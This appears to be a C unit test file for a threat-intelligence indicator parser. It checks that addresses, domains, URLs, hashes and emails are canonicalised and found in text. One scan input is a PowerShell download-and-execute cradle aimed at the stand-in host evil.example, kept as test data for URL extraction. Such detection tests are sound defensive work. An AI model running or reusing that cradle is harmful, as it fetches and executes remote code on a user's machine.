/* SPDX-License-Identifier: Apache-2.0 */
#include "intel/feed_int.h"
#include "tests/test.h"

#include <stdio.h>

/* "kind canonical", or "-" when `text` is of no kind. */
static const char *canonical(const char *text)
{
    static char out[INTEL_VALUE_MAX + 32];
    static struct intel_key key;
    char buf[INTEL_TEXT_MAX];
    if (!intel_key_parse(str_z(text), INTEL_KIND_COUNT, &key))
        return "-";
    str s = intel_key_text(key.kind, (str){key.byte, key.n}, buf);
    snprintf(out, sizeof out, "%s " STR_FMT, intel_kinds[key.kind]->name, STR_ARG(s));
    return out;
}

static const struct {
    const char *text, *expected;
} table[] = {
    {"203.0.113.7", "ip 203.0.113.7"},
    {" 203.0.113.7\r", "ip 203.0.113.7"},
    {"\"203.0.113.7\"", "ip 203.0.113.7"},
    {"203[.]0[.]113[.]7", "ip 203.0.113.7"},
    {"203.0.113[.]7:8080", "ip 203.0.113.7"},
    {"203.0.113.7/32", "ip 203.0.113.7"},
    {"::ffff:203.0.113.7", "ip 203.0.113.7"},
    {"[2001:DB8:0:0::1]:443", "ip 2001:db8::1"},
    {"2001:db8::1/128", "ip 2001:db8::1"},
    {"2001[:]db8[:][:]1", "ip 2001:db8::1"},
    {"203.0.113.007", "-"},
    {"203.0.113", "-"},
    {"203.0.113.256", "-"},
    {"203.0.113.7/24", "range 203.0.113.0/24"},
    {"203.0.113.0/33", "-"},
    {"203.0.113.0/240", "-"},
    {"::ffff:203.0.113.0/120", "range 203.0.113.0/24"},
    {"2001:DB8::/32", "range 2001:db8::/32"},
    {"Evil.Example", "domain evil.example"},
    {"evil.example.", "domain evil.example"},
    {"*.evil.example", "domain evil.example"},
    {".evil.example", "domain evil.example"},
    {"evil[.]example", "domain evil.example"},
    {"evil(dot)example", "domain evil.example"},
    {"evil[DOT]example", "domain evil.example"},
    {"evil{.}example", "domain evil.example"},
    {"evil[[.]]example", "domain evil.example"},
    {"evil.example:8080", "domain evil.example"},
    {"_dmarc.evil-1.example", "domain _dmarc.evil-1.example"},
    {"b\xc3\xbc"
     "cher.example",
     "domain b\xc3\xbc"
     "cher.example"},
    {"xn--bcher-kva.example", "domain xn--bcher-kva.example"},
    {"evil..example", "-"},
    {"localhost", "-"},
    {"10", "-"},
    {"a.b.1", "-"},
    {"evil example", "-"},
    {"", "-"},
    {"http://evil.example", "url http://evil.example/"},
    {"HTTP://EVIL.example:80/A?b=C#d", "url http://evil.example/A?b=C"},
    {"hxxp://evil[.]example/a", "url http://evil.example/a"},
    {"hXXps[:]//evil[.]example:443/a", "url https://evil.example/a"},
    {"hxxps[://]evil.example", "url https://evil.example/"},
    {"https://evil.example:8443/a", "url https://evil.example:8443/a"},
    {"fxp://evil.example:21/a", "url ftp://evil.example/a"},
    {"http://good.example@evil.example/", "url http://good.example@evil.example/"},
    {"http://[2001:DB8::1]:80/", "url http://[2001:db8::1]/"},
    {"http://[::ffff:203.0.113.7]/", "url http://203.0.113.7/"},
    {"http://evil.example./a", "url http://evil.example/a"},
    {"evil.example/a?u=http://x.example", "url http://evil.example/a?u=http://x.example"},
    {"http://evil.example?q=1", "url http://evil.example/?q=1"},
    {"http://010.0.0.1/", "-"},
    {"http://evil.example:99999/", "-"},
    {"http:///path", "-"},
    {"and/or", "-"},
    {"/etc/passwd", "-"},
    {"d41d8cd98f00b204e9800998ecf8427E", "md5 d41d8cd98f00b204e9800998ecf8427e"},
    {"DA39A3EE5E6B4B0D3255BFEF95601890AFD80709", "sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709"},
    {"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
     "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
    {"d41d8cd98f00b204e9800998ecf8427", "-"},
    {"Bad.Person@Evil.Example", "email bad.person@evil.example"},
    {"bad[at]evil[.]example", "email bad@evil.example"},
    {"bad(@)evil.example", "email bad@evil.example"},
    {"mailto:bad@evil.example", "email bad@evil.example"},
    {"<bad@evil.example>", "email bad@evil.example"},
    {"@evil.example", "-"},
    {"bad@localhost", "-"},
};

static void every_spelling_has_one_canonical_form(void **state)
{
    for (size_t i = 0; i < COUNT(table); i++)
        assert_string_equal(canonical(table[i].text), table[i].expected);
}

static void a_canonical_form_is_its_own(void **state)
{
    for (size_t i = 0; i < COUNT(table); i++) {
        const char *value = strchr(table[i].expected, ' ');
        if (value) {
            assert_string_equal(canonical(value + 1), table[i].expected);
        }
    }
}

static void a_value_is_refused_as_another_kind(void **state)
{
    static struct intel_key key;
    assert_false(intel_key_parse(STR("203.0.113.7"), INTEL_DOMAIN, &key));
    assert_false(intel_key_parse(STR("evil.example"), INTEL_IP, &key));
    assert_false(intel_key_parse(STR("evil.example"), INTEL_SHA256, &key));
    assert_false(intel_key_parse(STR("203.0.113.7"), INTEL_RANGE, &key));
}

static void the_longest_value_is_taken_and_one_more_byte_is_not(void **state)
{
    static char url[INTEL_VALUE_MAX + 2] = "http://evil.example/";
    static struct intel_key key;
    memset(url + 20, 'a', INTEL_VALUE_MAX + 1 - 20);
    assert_true(intel_key_parse((str){url, INTEL_VALUE_MAX}, INTEL_KIND_COUNT, &key));
    assert_false(intel_key_parse((str){url, INTEL_VALUE_MAX + 1}, INTEL_KIND_COUNT, &key));
}

/* Sixteen bytes are looked at together, so every place in a block is another case. */
static void a_bad_byte_is_seen_wherever_it_stands(void **state)
{
    static const char *const values[] = {"http://evil.example/some/path?and=a&query=string",
                                         "some.quite.long.subdomain.of.evil.example", "203.0.113.7",
                                         "bad.person@mail.evil.example"};
    static const char bad[] = {0, ' ', '\t', '\n', 127};
    static struct intel_key key;
    for (size_t i = 0; i < COUNT(values); i++)
        for (size_t at = 1; at + 1 < strlen(values[i]); at++)
            for (size_t k = 0; k < sizeof bad; k++) {
                char text[64];
                size_t n = strlen(values[i]);
                memcpy(text, values[i], n);
                text[at] = bad[k];
                assert_false(intel_key_parse((str){text, n}, INTEL_KIND_COUNT, &key));
            }
}

static void the_host_of_a_url_is_found(void **state)
{
    static const char *const cases[][2] = {
        {"http://evil.example/", "evil.example"},
        {"https://u:p@evil.example:8443/x@y", "evil.example"},
        {"http://[2001:db8::1]:81/", "2001:db8::1"},
        {"ftp://203.0.113.7/a:b", "203.0.113.7"},
    };
    for (size_t i = 0; i < COUNT(cases); i++)
        assert_true(str_eq(intel_url_host(str_z(cases[i][0])), str_z(cases[i][1])));
}

static void confidence_is_read_as_share_percent_or_word(void **state)
{
    static const struct {
        const char *text;
        float value;
    } good[] = {{"0.8", 0.8f}, {"80", 0.8f}, {"80%", 0.8f}, {"High", 0.9f}, {"1", 1}, {"0", 0}};
    static const char *const bad[] = {"", "unknown", "-1", "101", "nan", "8 0"};
    float f;
    for (size_t i = 0; i < COUNT(good); i++) {
        assert_true(intel_confidence(str_z(good[i].text), &f));
        assert_true(f > good[i].value - 0.001f && f < good[i].value + 0.001f);
    }
    for (size_t i = 0; i < COUNT(bad); i++)
        assert_false(intel_confidence(str_z(bad[i]), &f));
}

static void more_lists_mean_more_confidence(void **state)
{
    for (unsigned i = 1; i < 64; i++)
        assert_true(intel_confidence_of_count(i) <= intel_confidence_of_count(i + 1));
    assert_true(intel_confidence_of_count(1) < 0.6f);
    assert_true(intel_confidence_of_count(3) >= 0.6f);
    assert_true(intel_confidence_of_count(8) >= 0.9f);
    assert_true(intel_confidence_of_count(UINT64_MAX) <= 1);
}

static void technique_ids_are_found_among_words(void **state)
{
    struct arena a;
    struct intel_technique_list list = {.count = 0};
    arena_init(&a, 1 << 16);
    intel_techniques_find(STR("attack.t1059.001 (T1566); T12345 XT1003 T1566 T1105.5"), &a, &list);
    assert_int_equal(list.count, 3);
    assert_true(str_eq(list.at[0], STR("T1059.001")));
    assert_true(str_eq(list.at[1], STR("T1566")));
    assert_true(str_eq(list.at[2], STR("T1105")));
    arena_done(&a);
}

struct found {
    char text[512];
};

static void collect(void *arg, str candidate)
{
    struct found *f = arg;
    size_t n = strlen(f->text);
    snprintf(f->text + n, sizeof f->text - n, STR_FMT "\n", STR_ARG(candidate));
}

static void a_scan_finds_addresses_urls_and_hashes_wherever_they_stand(void **state)
{
    static const char *const cases[][2] = {
        {"from 203.0.113.7 port 22", "203.0.113.7\n"},
        {"at 203.0.113.7.", "203.0.113.7\n"},
        {"v1.2.3.4 1.2.3.4.5 1.2.3 version 10.0.19041.1266x", ""},
        {"[203.0.113.7]:22->198.51.100.1:80", "203.0.113.7\n198.51.100.1\n"},
        {"iex (x).DownloadString('http://evil.example/a.ps1')", "http://evil.example/a.ps1\n"},
        {"(see https://evil.example/a).", "https://evil.example/a\n"},
        {"http://203.0.113.7/x 198.51.100.2", "http://203.0.113.7/x\n198.51.100.2\n"},
        {"md5=d41d8cd98f00b204e9800998ecf8427e;", "d41d8cd98f00b204e9800998ecf8427e\n"},
        {"d41d8cd98f00b204e9800998ecf8427e0", ""},
        {"xd41d8cd98f00b204e9800998ecf8427e", ""},
        {"c:/a/b x:// ://", ""},
    };
    for (size_t i = 0; i < COUNT(cases); i++)
        for (size_t shift = 0; shift < 20; shift++) { /* wherever the block ends fall */
            char text[256];
            struct found f = {.text = ""};
            snprintf(text, sizeof text, "%*s%s", (int)shift, "", cases[i][0]);
            assert_true(intel_scan(str_z(text), false, collect, &f));
            assert_string_equal(f.text, cases[i][1]);
        }
}

static void a_scan_of_undecoded_json_minds_its_escapes(void **state)
{
    static const struct {
        const char *text, *found;
        bool enough;
    } cases[] = {
        {"Address:\\t\\t203.0.113.7\\r\\n", "203.0.113.7\n", true},
        {"x\\nhttp://evil.example/a\\tb", "http://evil.example/a\n", true},
        {"MD5:\\nd41d8cd98f00b204e9800998ecf8427e\\n", "d41d8cd98f00b204e9800998ecf8427e\n", true},
        {"http:\\/\\/evil.example", "", false},
        {"http://evil.example/?a\\u0026b", "http://evil.example/?a\n", false},
    };
    for (size_t i = 0; i < COUNT(cases); i++) {
        struct found f = {.text = ""};
        assert_int_equal(intel_scan(str_z(cases[i].text), true, collect, &f), cases[i].enough);
        assert_string_equal(f.text, cases[i].found);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_spelling_has_one_canonical_form),
        cmocka_unit_test(a_canonical_form_is_its_own),
        cmocka_unit_test(a_value_is_refused_as_another_kind),
        cmocka_unit_test(the_longest_value_is_taken_and_one_more_byte_is_not),
        cmocka_unit_test(a_bad_byte_is_seen_wherever_it_stands),
        cmocka_unit_test(the_host_of_a_url_is_found),
        cmocka_unit_test(confidence_is_read_as_share_percent_or_word),
        cmocka_unit_test(more_lists_mean_more_confidence),
        cmocka_unit_test(technique_ids_are_found_among_words),
        cmocka_unit_test(a_scan_finds_addresses_urls_and_hashes_wherever_they_stand),
        cmocka_unit_test(a_scan_of_undecoded_json_minds_its_escapes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
